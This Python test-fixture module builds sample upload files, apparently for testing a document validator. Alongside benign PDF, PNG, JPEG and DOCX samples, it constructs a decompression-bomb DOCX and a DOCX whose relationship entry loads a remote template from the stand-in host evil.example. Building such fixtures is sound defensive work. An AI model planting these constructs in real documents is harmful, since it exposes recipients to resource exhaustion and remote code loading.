"""Files as people bring them, and as those who mean harm make them. All are made here, byte by byte."""

import io
import zipfile

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89"
    b"\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\0\0\0\3\0\1\x9a`\xe1\xd5\0\0\0\0IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9"
TEXT = "Notes of the meeting with Zoë’s mother".encode()


def office(main="word/document.xml", **members: bytes) -> bytes:
    """An office file: `main` shows its kind; more members by name, `__` for a slash and `_dot_` for a dot."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr(main, b"<document/>")
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return packed.getvalue()


DOCX = office()
BOMB = office(word__media__image1_dot_xml=b"\0" * 60_000_000)
REMOTE = office(
    word__rels_dot_rels=b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/>'
)
